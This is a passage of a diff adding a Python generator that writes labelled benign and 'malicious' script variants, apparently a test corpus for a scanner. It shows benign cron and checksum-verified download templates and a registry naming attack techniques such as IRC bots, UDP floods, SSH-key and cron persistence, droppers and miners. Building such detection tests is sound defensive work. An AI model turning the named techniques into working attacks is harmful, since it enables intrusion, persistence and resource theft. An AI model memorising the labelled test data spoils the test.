+        "#!/bin/sh\n(crontab -l 2>/dev/null | grep -v hc-ping; echo '*/5 * * * * curl -fsS -m 10 --retry 3 https://hc-ping.example.invalid/abc > /dev/null') | crontab -\n",
+        "#!/usr/bin/env python3\nimport subprocess\nline = '0 4 * * * /usr/local/bin/certrenew --quiet\\n'\n"
+        "cur = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n"
+        "if line not in cur:\n    subprocess.run(['crontab', '-'], input=cur + line, text=True, check=True)\n",
+    ])
+    g.lang = "py" if "python" in code else "sh"
+    return code
+
+
+def b_verified_download(g):
+    """A deployment script: download a release to a temp dir, verify its checksum,
+    install it."""
+    r = g.rng
+    code = r.choice([
+        "#!/bin/sh\nset -e\nV=1.4.2\ncurl -fsSLo /tmp/tool.tar.gz https://releases.example.invalid/tool-$V.tar.gz\n"
+        "echo \"3f2a9c0e5b...  /tmp/tool.tar.gz\" | sha256sum -c -\ntar -C /tmp -xzf /tmp/tool.tar.gz\n"
+        "chmod +x /tmp/tool\nsudo mv /tmp/tool /usr/local/bin/tool\n/usr/local/bin/tool --version\n",
+        "#!/usr/bin/env python3\nimport hashlib, os, subprocess, urllib.request\nURL = 'https://releases.example.invalid/cli'\n"
+        "SHA = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n"
+        "data = urllib.request.urlopen(URL).read()\nif hashlib.sha256(data).hexdigest() != SHA:\n    raise SystemExit('bad checksum')\n"
+        "with open('/tmp/cli', 'wb') as f:\n    f.write(data)\nos.chmod('/tmp/cli', 0o755)\nsubprocess.run(['/tmp/cli', 'install'], check=True)\n",
+        "#!/bin/bash\nset -euo pipefail\ntmp=$(mktemp -d)\ncurl -fsSL -o \"$tmp/kubectl\" https://dl.example.invalid/kubectl\n"
+        "curl -fsSL -o \"$tmp/kubectl.sha256\" https://dl.example.invalid/kubectl.sha256\n"
+        "echo \"$(cat $tmp/kubectl.sha256)  $tmp/kubectl\" | sha256sum --check\nchmod +x \"$tmp/kubectl\"\n"
+        "install \"$tmp/kubectl\" /usr/local/bin/\n",
+    ])
+    g.lang = "py" if "python" in code else "sh"
+    return code
+
+
+def _lang_of(fn):
+    """The extension is decided by the template's choice (g.lang)."""
+    return fn
+
+
+# name, function, class, extension ("auto": the template sets g.lang), expectation
+BOT_TEMPLATES = [
+    ("php_irc_bot", t_php_irc_bot, "malicious", "php", "high"),
+    ("irc_dispatch", t_irc_dispatch, "malicious", "auto", "high"),
+    ("udp_flood", t_udp_flood, "malicious", "auto", "high"),
+    ("sshkey_persist", t_sshkey_persist, "malicious", "auto", "high"),
+    ("cron_persist", t_cron_persist, "malicious", "auto", "high"),
+    ("dropper2", t_dropper, "malicious", "auto", "high"),
+    ("miner_code", t_miner_code, "malicious", "auto", "high"),
+    ("irc_notify", b_irc_notify, "benign", "auto", "none"),
+    ("udp_metrics", b_udp_metrics, "benign", "auto", "none"),
+    ("ssh_copy_id", b_ssh_copy_id, "benign", "auto", "none"),
+    ("cron_installer", b_cron_installer, "benign", "auto", "none"),
+    ("verified_download", b_verified_download, "benign", "auto", "none"),
+]
+
+
+def main():
+    """botgen.py --out DIR [--seed N] [--per N]: these templates' variants and
+    variants.tsv, as scriptgen.py."""
+    import argparse
+    import hashlib
+    import os
+    import random
+    import sys
+    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+    from phpgen import Gen
+    from gen_variants import safe_out_dir
+    ap = argparse.ArgumentParser(description="bot and persistence variants, round 2")
+    ap.add_argument("--out", required=True)
+    ap.add_argument("--seed", type=int, default=1)
+    ap.add_argument("--per", type=int, default=8)
+    a = ap.parse_args()
+    out = safe_out_dir(a.out)
+    os.makedirs(out, exist_ok=True)
+    with open(os.path.join(out, "variants.tsv"), "w") as tsv:
+        tsv.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
+        for name, fn, cls, lang, expect in BOT_TEMPLATES:
+            for i in range(a.per):
+                tag = "bots2:%s:%s:%d" % (a.seed, name, i)
+                g = Gen(random.Random(tag), noise=False)
+                g.malicious = cls == "malicious"
+                g.lang = lang
+                text = fn(g)
+                fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + g.lang
+                with open(os.path.join(out, fname), "wb") as f:
+                    f.write(text.encode("latin-1"))
+                tsv.write("\t".join((fname, cls, name, g.lang, expect, "-")) + "\n")
+
+
+if __name__ == "__main__":
+    main()
